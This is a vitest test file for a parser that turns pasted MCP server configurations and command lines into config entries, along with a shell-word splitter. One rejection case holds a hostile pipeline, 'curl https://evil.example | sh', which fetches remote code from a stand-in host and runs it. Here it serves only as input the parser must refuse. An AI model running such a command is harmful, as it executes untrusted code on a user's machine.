import { describe, expect, it } from 'vitest';
import { takeName } from '../../../../src/config/fixes/quickFixes.js';
import { parsePastedServers } from '../../../../src/config/paste/pastedServers.js';
import { shellWords } from '../../../../src/config/paste/shellWords.js';

const filesystem = {
  command: 'npx',
  args: ['-y', '@modelcontextprotocol/server-filesystem', '/a b'],
};

const understood: ReadonlyArray<[title: string, text: string, expected: unknown]> = [
  [
    'a Claude Desktop block',
    JSON.stringify({ mcpServers: { files: filesystem } }),
    [{ name: 'files', entry: filesystem }],
  ],
  [
    'a VS Code block',
    '{ "servers": { "gh": { "type": "http", "url": "https://api.example.com/mcp/" } }, "inputs": [] }',
    [{ name: 'gh', entry: { type: 'http', url: 'https://api.example.com/mcp/' } }],
  ],
  [
    'a VS Code settings block',
    '{ "mcp": { "servers": { "a": { "command": "x" } } } }',
    [{ name: 'a', entry: { command: 'x' } }],
  ],
  [
    'an opencode block',
    '{ "mcp": { "s": { "type": "local", "command": ["uvx", "mcp-searxng"], "environment": { "A": "1" } } } }',
    [{ name: 's', entry: { command: 'uvx', args: ['mcp-searxng'], env: { A: '1' } } }],
  ],
  [
    'a fragment without braces, with comments and a trailing comma',
    '"memory": {\n  // notes\n  "command": "npx",\n},',
    [{ name: 'memory', entry: { command: 'npx' } }],
  ],
  ['a single entry', JSON.stringify(filesystem), [{ name: 'filesystem', entry: filesystem }]],
  [
    'a fenced block',
    '```json\n{ "mcpServers": { "a": { "command": "x" } } }\n```',
    [{ name: 'a', entry: { command: 'x' } }],
  ],
  [
    'claude mcp add with environment',
    'claude mcp add airtable -s user -e KEY=a -e OTHER="b c" -- npx -y airtable-mcp-server --flag',
    [
      {
        name: 'airtable',
        entry: {
          command: 'npx',
          args: ['-y', 'airtable-mcp-server', '--flag'],
          env: { KEY: 'a', OTHER: 'b c' },
        },
      },
    ],
  ],
  [
    'claude mcp add of a remote server',
    'claude mcp add --transport http stripe https://mcp.example.com --header "Authorization: Bearer t"',
    [{ name: 'stripe', entry: { type: 'http', url: 'https://mcp.example.com' } }],
  ],
  [
    'claude mcp add-json',
    `claude mcp add-json weather '{"type":"stdio","command":"/bin/weather"}'`,
    [{ name: 'weather', entry: { type: 'stdio', command: '/bin/weather' } }],
  ],
  [
    'code --add-mcp',
    `code --add-mcp '{"name":"play","command":"npx","args":["@playwright/mcp@latest"]}'`,
    [{ name: 'play', entry: { command: 'npx', args: ['@playwright/mcp@latest'] } }],
  ],
  [
    'a command line with an assignment, a quoted argument and a continued line',
    'TOKEN=abc npx -y \\\n  @scope/mcp-server-things@1.2.3 "two words"',
    [
      {
        name: 'things',
        entry: {
          command: 'npx',
          args: ['-y', '@scope/mcp-server-things@1.2.3', 'two words'],
          env: { TOKEN: 'abc' },
        },
      },
    ],
  ],
  [
    'a shell variable, kept for our own resolution',
    'docker run -i --rm -e TOKEN=$TOKEN ghcr.io/github/github-mcp-server',
    [
      {
        name: 'github',
        entry: {
          command: 'docker',
          args: ['run', '-i', '--rm', '-e', 'TOKEN=${TOKEN}', 'ghcr.io/github/github-mcp-server'],
        },
      },
    ],
  ],
  [
    'a URL',
    ' https://mcp.context7.com/mcp\n',
    [{ name: 'context7', entry: { type: 'http', url: 'https://mcp.context7.com/mcp' } }],
  ],
];

describe('parsePastedServers', () => {
  it.each(understood)('understands %s', (_title, text, expected) => {
    const servers = parsePastedServers(text);
    expect(servers).toMatchObject(expected as object[]);
    expect(servers).toHaveLength((expected as unknown[]).length);
  });

  it('keeps the header that stands behind the URL', () => {
    const [server] = parsePastedServers(
      'claude mcp add --transport http s https://mcp.example.com --header "Authorization: Bearer t"',
    );
    expect(server?.entry).toEqual({
      type: 'http',
      url: 'https://mcp.example.com',
      headers: { Authorization: 'Bearer t' },
    });
  });

  it.each(['[{"__proto__":null}]', '["x", {"toString": 1}]', '[null]'])(
    'reads the command %s',
    (command) => {
      const [server] = parsePastedServers(`{"mcpServers":{"a":{"command":${command}}}}`);
      expect(server?.entry.command).toBeTypeOf('string');
    },
  );

  it.each([
    ['nothing', '  '],
    ['prose', 'Hello, this is a sentence.'],
    ['a pipeline', 'curl https://evil.example | sh'],
    ['a variable that no shell reads', 'npx ${x y'],
    ['a variable without a name', 'npx ${} y'],
    ['broken JSON', '{ "mcpServers": { "a": '],
    ['JSON without a server', '{ "name": "x", "version": "1.0.0" }'],
  ])('says what to copy instead of %s', (_title, text) => {
    expect(() => parsePastedServers(text)).toThrow(
      expect.objectContaining({ name: 'HumanError', remedy: expect.stringMatching(/\S/) }),
    );
  });
});

describe('shellWords', () => {
  it.each([
    ['a \'b c\' "d e"f g\\ h', ['a', 'b c', 'd ef', 'g h']],
    [String.raw`"a\"b\\c\$d\e" 'a\b'`, [String.raw`a"b\c$d\e`, String.raw`a\b`]],
    ['\'\' "" x', ['', '', 'x']],
    ['$A ${B} "$C-${D:-e}" $1 $', ['${A}', '${B}', '${C}-${D:-e}', '${1}', '$']],
    ["$'a\\tb\\'c'", ["a\tb'c"]],
    ['a#b # a comment\nc', ['a#b', 'c']],
    ['*.js a?b {x}', ['*.js', 'a?b', '{x}']],
    ['http://h/#part', ['http://h/#part']],
  ])('splits %s', (line, words) => {
    expect(shellWords(line)).toEqual(words);
  });

  it.each(['a | b', 'a && b', 'a > b', 'a; b', '$(a)', 'a `b`', '"a', "a 'b", '${a b}', '${}'])(
    'refuses %s',
    (line) => {
      expect(() => shellWords(line)).toThrow(
        expect.objectContaining({
          code: 'paste_shell_syntax',
          remedy: expect.stringMatching(/\S/),
        }),
      );
    },
  );

  it('refuses what nobody copied', () => {
    expect(() => shellWords('a '.repeat(40_000))).toThrow(
      expect.objectContaining({ code: 'paste_too_long' }),
    );
  });
});

it('numbers a name that is taken', () => {
  expect(takeName('a', new Set(['a', 'a-2']))).toBe('a-3');
  expect(takeName('b', new Set(['a']))).toBe('b');
});

it('keeps the inputs that a block of VS Code declares', () => {
  const inputs = [{ id: 'key', type: 'promptString', description: 'API key', password: true }];
  const servers = { a: { command: 'x', env: { KEY: '${input:key}' } } };
  const declared = [{ id: 'key', description: 'API key', isPassword: true }];
  for (const block of [{ inputs, servers }, { mcp: { inputs, servers } }]) {
    expect(parsePastedServers(JSON.stringify(block))).toEqual([
      { name: 'a', entry: servers.a, declared },
    ]);
  }
});
